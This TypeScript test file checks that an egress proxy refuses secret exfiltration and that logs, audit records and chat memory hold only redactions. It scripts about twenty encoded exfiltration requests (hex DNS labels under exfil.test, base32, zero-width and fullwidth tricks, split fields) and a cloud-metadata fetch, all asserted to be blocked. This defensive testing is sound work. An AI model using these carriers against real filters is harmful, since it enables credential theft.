// Secrets boundary, round two (docs/architecture.md invariant 1): nothing Talon
// records holds a secret value or a detected credential, in any encoding — not
// even after egress blocked a request that carried one — and a credential a user
// pastes into chat is redacted before it is stored or sent anywhere, while the
// conversation goes on.
//
// Attacked for real: a vault canary and a GitHub token are sent out through
// egress in every placement and carrier the scanner knows (host-name labels
// included, which must be refused before any DNS lookup), then the raw bytes of
// every TALON_AUDIT message, the HAR export, the operator audit API, the spans a
// real OTLP receiver got and every log file are searched for every encoding used.
// Positive controls (the refusals are recorded, with [REDACTED:…] markers) keep
// the searches honest.
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { jetstreamManager } from '@nats-io/jetstream';
import pg from 'pg';
import type { Client } from 'undici';
import {
  egressAs,
  receivedTexts,
  startFakeCollector,
  startFakeDns,
  startTestPlatform,
  startUpstream,
  streamedText,
  viaEgress,
  type FakeCollector,
  type FakeDns,
  type FakeUpstream,
  type TestPlatform,
} from '@talon/testkit';

const CANARY = `cnry${randomBytes(20).toString('hex')}`;
const alnum = (n: number) => {
  const abc = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';
  return [...randomBytes(n)].map((b) => abc[b % abc.length]).join('');
};
const GHP = `ghp_${alnum(36)}`;
const PASSPHRASE = `records-${randomBytes(8).toString('hex')}`;

const b32 = (s: string) => {
  const abc = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567';
  let bits = '';
  for (const b of Buffer.from(s)) bits += b.toString(2).padStart(8, '0');
  let out = '';
  for (let i = 0; i < bits.length; i += 5) out += abc[parseInt(bits.slice(i, i + 5).padEnd(5, '0'), 2)];
  return out;
};
const pct = (s: string) => [...s].map((c) => `%${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');
const reversed = (s: string) => [...s].reverse().join('');
const fullwidth = (s: string) => [...s].map((c) => (c >= '!' && c <= '~' ? String.fromCharCode(c.charCodeAt(0) + 0xfee0) : c)).join('');
const half = CANARY.length >> 1;

/** Every form of the canary the attacks use, and of the token: none may appear in any record. */
const FORMS = [
  CANARY,
  CANARY.slice(0, half),
  CANARY.slice(half),
  Buffer.from(CANARY).toString('base64').replace(/=+$/, ''),
  Buffer.from(CANARY).toString('base64url'),
  Buffer.from(CANARY).toString('hex'),
  pct(CANARY),
  reversed(CANARY),
  b32(CANARY),
  [...CANARY].join(' '),
  [...CANARY].join('\u200d'),
  Buffer.from(CANARY, 'utf16le').toString('base64').replace(/=+$/, ''),
  [...CANARY].map((c) => `&#${c.charCodeAt(0)};`).join(''),
  fullwidth(CANARY),
  encodeURIComponent(fullwidth(CANARY)),
  GHP,
  GHP.slice(4),
  Buffer.from(GHP).toString('base64').replace(/=+$/, ''),
];

function leaks(haystack: string | Buffer): string[] {
  const text = typeof haystack === 'string' ? haystack : haystack.toString('utf8');
  const lower = text.toLowerCase();
  return FORMS.filter((f) => text.includes(f) || lower.includes(f.toLowerCase()));
}

async function until<T>(what: string, fn: () => Promise<T | undefined>, timeoutMs = 20_000): Promise<T> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const v = await fn();
    if (v !== undefined) return v;
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 100));
  }
}

describe('secrets round two: records hold redactions, pasted credentials never break a conversation', () => {
  let tp: TestPlatform;
  let collector: FakeCollector;
  let dns: FakeDns;
  let bound: FakeUpstream;
  let other: FakeUpstream;
  let orch: Client;
  const dir = mkdtempSync(join(tmpdir(), 'talon-records-'));
  const cli = (args: string[], input?: string) => tp.cli(args, input);

  before(async () => {
    collector = await startFakeCollector();
    // Answers every name with loopback: a host-name carrier the scanner missed would be resolved and sent.
    dns = await startFakeDns(() => '127.0.0.1');
    bound = await startUpstream();
    other = await startUpstream();
    writeFileSync(
      join(dir, 'policy.json'),
      JSON.stringify({
        rules: [
          { principal: 'orchestrator', host: '127.0.0.1', port: other.port, methods: ['GET', 'POST'] },
          { principal: 'orchestrator', host: '*.exfil.test', port: other.port, methods: ['GET', 'POST'] },
          { principal: 'orchestrator', host: 'metadata.google.internal', port: 80, methods: ['GET'] },
        ],
      }),
    );
    tp = await startTestPlatform({
      // No skills here: the sandbox is left out.
      services: ['vault', 'egress', 'memory', 'orchestrator', 'gateway'],
      env: {
        TALON_VAULT_PASSPHRASE: PASSPHRASE,
        EGRESS_POLICY_FILE: join(dir, 'policy.json'),
        EGRESS_DNS_SERVERS: `127.0.0.1:${dns.port}`,
        OTEL_EXPORTER_OTLP_ENDPOINT: collector.url,
        OTEL_BSP_SCHEDULE_DELAY: '100',
        TALON_LOG_LEVEL: 'debug',
      },
      llm: {
        // Names any credential-looking text it received, so a leak into the model would show in the reply too.
        reply: (req) => `answer ${tp.llm!.requests.length}: ${receivedTexts(req).length} messages seen`,
      },
    });
    const r = cli(
      ['secrets', 'set', 'api_key', '--host', `127.0.0.1:${bound.port}`, '--bearer', '--principal', 'orchestrator'],
      `${CANARY}\n`,
    );
    assert.equal(r.status, 0, r.stderr);
    orch = egressAs(tp.home, tp.ports.egressProxy, 'orchestrator');
    // A second secret, stored after the canary, is the readiness probe: once egress refuses it, its
    // scan index holds the canary too (signal, not a sleep), and no early probe carried the canary.
    const probe = `probe${randomBytes(12).toString('hex')}`;
    const p = cli(['secrets', 'set', 'probe_key', '--host', `127.0.0.1:${bound.port}`, '--bearer'], `${probe}\n`);
    assert.equal(p.status, 0, p.stderr);
    await until('egress to know the canary', async () => {
      const x = await viaEgress(orch, `${other.url}/ready?d=${probe}`);
      // Until it knows the probe, egress refuses the request for its loopback address instead.
      return x.status === 403 && x.json.error.reason === 'secret_leak_blocked' ? true : undefined;
    });
  });

  after(async () => {
    await orch?.close();
    await tp?.stop();
    await bound?.close();
    await other?.close();
    await dns?.close();
    await collector?.close();
  });

  it('refuses every carrier of the canary and the token, host names before any DNS lookup', async () => {
    const seenBefore = other.seen.length;
    const hexLabels = Buffer.from(CANARY)
      .toString('hex')
      .match(/.{1,40}/g)!
      .join('.');
    const utf16 = Buffer.from(CANARY, 'utf16le').toString('base64');
    const attempts: Array<[string, string, Parameters<typeof viaEgress>[2]]> = [
      ['header raw', `${other.url}/h`, { headers: { 'x-data': CANARY } }],
      ['query raw', `${other.url}/q?d=${CANARY}`, {}],
      ['query hex', `${other.url}/q?d=${Buffer.from(CANARY).toString('hex')}`, {}],
      ['query percent', `${other.url}/q?d=${pct(CANARY)}`, {}],
      ['path raw', `${other.url}/p/${CANARY}/x`, {}],
      ['path base64url', `${other.url}/p/${Buffer.from(CANARY).toString('base64url')}`, {}],
      ['host hex labels', `http://${hexLabels}.exfil.test:${other.port}/`, {}],
      ['query zero-width joiners', `${other.url}/q?d=${encodeURIComponent([...CANARY].join('\u200d'))}`, {}],
      ['query fullwidth', `${other.url}/q?d=${encodeURIComponent(fullwidth(CANARY))}`, {}],
      ['query reversed', `${other.url}/q?d=${reversed(CANARY)}`, {}],
      ['query base32', `${other.url}/q?d=${b32(CANARY)}`, {}],
      ['query split across parameters', `${other.url}/q?a=${CANARY.slice(0, half)}&b=${CANARY.slice(half)}`, {}],
      ['headers split', `${other.url}/h`, { headers: { 'x-a': CANARY.slice(0, half), 'x-b': CANARY.slice(half) } }],
      ['header spaced', `${other.url}/h`, { headers: { 'x-data': [...CANARY].join(' ') } }],
      [
        'body split across JSON fields',
        `${other.url}/b`,
        {
          method: 'POST',
          body: JSON.stringify({ a: CANARY.slice(0, half), b: CANARY.slice(half) }),
          headers: { 'content-type': 'application/json' },
        },
      ],
      ['body base64 of UTF-16LE', `${other.url}/b`, { method: 'POST', body: `data=${utf16}` }],
      ['body HTML entities', `${other.url}/b`, { method: 'POST', body: [...CANARY].map((c) => `&#${c.charCodeAt(0)};`).join('') }],
      ['token in query', `${other.url}/q?t=${GHP}`, {}],
      ['token in header', `${other.url}/h`, { headers: { 'x-token': GHP } }],
    ];
    for (const [what, url, init] of attempts) {
      const r = await viaEgress(orch, url, init);
      assert.equal(r.status, 403, `${what}: ${r.text}`);
      assert.equal(r.json.error.reason, 'secret_leak_blocked', `${what}: ${r.text}`);
      assert.deepEqual(leaks(r.text), [], `${what}: the refusal names no value`);
    }
    assert.equal(other.seen.length, seenBefore, 'nothing reached the upstream');
    assert.ok(!dns.queries.some((q) => q.name.endsWith('exfil.test')), 'the carrier host name was never sent to DNS');

    const meta = await viaEgress(orch, 'http://metadata.google.internal/computeMetadata/v1/');
    assert.equal(meta.status, 403, meta.text);
    assert.equal(meta.json.error.reason, 'metadata_host');
    assert.ok(!dns.queries.some((q) => q.name.includes('metadata')), 'metadata names are refused without DNS');
  });

  it('the raw bytes of every TALON_AUDIT message hold redactions, never values', async () => {
    const jsm = await jetstreamManager(await tp.admin());
    const raw = await until('the refusals to be audited', async () => {
      const info = await jsm.streams.info('TALON_AUDIT');
      const all: Buffer[] = [];
      for (let seq = info.state.first_seq; seq <= info.state.last_seq; seq++) {
        const m = await jsm.streams.getMessage('TALON_AUDIT', { seq }).catch(() => null);
        if (m) all.push(Buffer.from(m.data), Buffer.from(m.subject));
      }
      const text = Buffer.concat(all).toString('utf8');
      return (text.match(/secret_leak_blocked/g) ?? []).length >= 20 ? text : undefined;
    });
    assert.match(raw, /\[REDACTED:secret:api_key\]/, 'positive control: the canary was recorded as a redaction');
    assert.match(raw, /\[REDACTED:github_pat\]/, 'positive control: the token was recorded as a redaction');
    assert.deepEqual(leaks(raw), []);
  });

  it('the HAR export holds no value and names the upstream host', () => {
    const file = join(dir, 'audit.har');
    const r = cli(['egress', 'har', '--refused', '-o', file]);
    assert.equal(r.status, 0, r.stderr);
    const har = readFileSync(file, 'utf8');
    const entries = (JSON.parse(har) as { log: { entries: Array<{ request: { url: string }; _talon: { reason: string } }> } }).log.entries;
    const blocked = entries.filter((e) => e._talon.reason === 'secret_leak_blocked');
    assert.ok(blocked.length >= 20, `blocked entries exported (${blocked.length})`);
    assert.ok(
      blocked.some((e) => e.request.url.startsWith(`http://127.0.0.1:${other.port}/`)),
      'entries name the upstream',
    );
    assert.ok(!blocked.some((e) => e.request.url.includes(`:${tp.ports.egressProxy}`)), 'never the proxy');
    assert.deepEqual(leaks(har), []);
  });

  it('the operator audit API shows the rule and who, never the value', async () => {
    const ops = await tp.token('ops', { scope: 'operator' });
    const res = await fetch(`${tp.gatewayUrl}/v1/admin/audit?limit=200`, { headers: { authorization: `Bearer ${ops}` } });
    const text = await res.text();
    assert.equal(res.status, 200, text);
    const body = JSON.parse(text) as { entries: Array<{ reason: string; findings: string[]; principal: string }> };
    const blocked = body.entries.filter((e) => e.reason === 'secret_leak_blocked');
    assert.ok(blocked.length >= 20);
    assert.ok(blocked.some((e) => e.findings.includes('secret:api_key') && e.principal === 'orchestrator'));
    assert.ok(blocked.some((e) => e.findings.includes('github_pat')));
    assert.deepEqual(leaks(text), []);
  });

  it('a user who pastes a token and a vault value is told, and the conversation goes on for 5 turns', async () => {
    const token = await tp.token('paula');
    const conv = { 'x-talon-conversation': 'pasted' };
    const before = tp.llm!.requests.length;
    const first = await tp.chat(
      token,
      { messages: [{ role: 'user', content: `my token is ${GHP} and the key is ${CANARY}, keep them` }] },
      conv,
    );
    assert.equal(first.status, 200, first.text);
    const content = String(first.json.choices[0].message.content);
    assert.match(content, /github_pat/);
    assert.match(content, /removed from your message/);
    assert.match(content, /rotate/);
    assert.doesNotMatch(content, /api_key/, 'the notice does not name vault secrets');
    for (let i = 2; i <= 5; i++) {
      const r =
        i % 2 === 0
          ? await tp.chat(token, { messages: [{ role: 'user', content: `turn ${i}: what did I paste?` }] }, conv)
          : await tp.chat(token, { stream: true, messages: [{ role: 'user', content: `turn ${i}, streamed` }] }, conv);
      assert.equal(r.status, 200, `turn ${i}: ${r.text}`);
      const text = i % 2 === 0 ? String(r.json.choices[0].message.content) : streamedText(r.text);
      assert.match(text, /^answer \d+/, `turn ${i} answered: ${text}`);
      assert.deepEqual(leaks(r.text), []);
    }
    const seen = tp.llm!.requests.slice(before);
    assert.ok(seen.length >= 5);
    assert.deepEqual(leaks(JSON.stringify(seen.map((q) => q.body))), [], 'the model never saw either');
    assert.ok(JSON.stringify(seen[0]!.body).includes('[redacted:github_pat]'), 'it saw the redaction instead');
    // And the WebSocket/web UI path is the same TurnRunner; a new conversation recalls only redactions.
    const fresh = await tp.chat(
      token,
      { messages: [{ role: 'user', content: 'what token did I paste earlier?' }] },
      { 'x-talon-conversation': 'later' },
    );
    assert.equal(fresh.status, 200, fresh.text);
  });

  it('a stored turn from before redaction is dropped from what the model sees, with a notice, not a failure', async () => {
    const token = await tp.token('leo');
    const conv = { 'x-talon-conversation': 'legacy' };
    const first = await tp.chat(token, { messages: [{ role: 'user', content: 'hello' }] }, conv);
    assert.equal(first.status, 200, first.text);
    // Data written before this release: a pasted token stored verbatim.
    const db = new pg.Client({ connectionString: tp.platform.adminDatabaseUrl() });
    await db.connect();
    try {
      await db.query(
        `insert into memory.conversation_history (conversation_id, user_id, turn_id, role, source, content)
         select id, user_id, 'legacy:user', 'user', 'user', $1 from memory.conversations where user_id = 'leo' and thread_id = 'legacy'`,
        [`old message with ${GHP}`],
      );
    } finally {
      await db.end();
    }
    const before = tp.llm!.requests.length;
    const next = await tp.chat(token, { messages: [{ role: 'user', content: 'and now?' }] }, conv);
    assert.equal(next.status, 200, next.text);
    assert.match(String(next.json.choices[0].message.content), /earlier content of this conversation held a credential \(github_pat\)/);
    assert.deepEqual(leaks(JSON.stringify(tp.llm!.requests.slice(before).map((q) => q.body))), []);
    const again = await tp.chat(token, { messages: [{ role: 'user', content: 'still there?' }] }, conv);
    assert.equal(again.status, 200, again.text);
  });

  it('stored turns, memory chunks and embeddings hold no value', async () => {
    const db = new pg.Client({ connectionString: tp.platform.adminDatabaseUrl() });
    await db.connect();
    try {
      const { rows } = await db.query<{ c: string }>(
        `select content as c from memory.conversation_history where turn_id <> 'legacy:user'
         union all select content from memory.vector_embeddings`,
      );
      const dumped = rows.map((r) => r.c).join('\n');
      assert.match(dumped, /\[redacted:github_pat\]/, 'positive control: the pasted turn is stored, redacted');
      const stored = dumped.split('\n').filter((l) => !l.includes('old message with'));
      assert.deepEqual(leaks(stored.join('\n')), []);
    } finally {
      await db.end();
    }
  });

  it('spans and logs hold no value', async () => {
    await until('spans of the refusals', async () => (collector.spans.some((s) => s.service === 'egress') ? true : undefined));
    assert.deepEqual(leaks(collector.raw.join('\n')), []);
    const files = readdirSync(join(tp.home, 'logs'));
    // Positive control: one log per process started (the embedded database only when there is one).
    const started = ['vault', 'egress', 'memory', 'orchestrator', 'gateway', 'nats', ...(tp.platform.embedded ? ['pglite'] : [])];
    assert.deepEqual(files.filter((f) => started.includes(f.replace(/\.log$/, ''))).sort(), started.map((n) => `${n}.log`).sort());
    const logs = files.map((f) => readFileSync(join(tp.home, 'logs', f)));
    assert.deepEqual(leaks(Buffer.concat(logs)), []);
  });
});
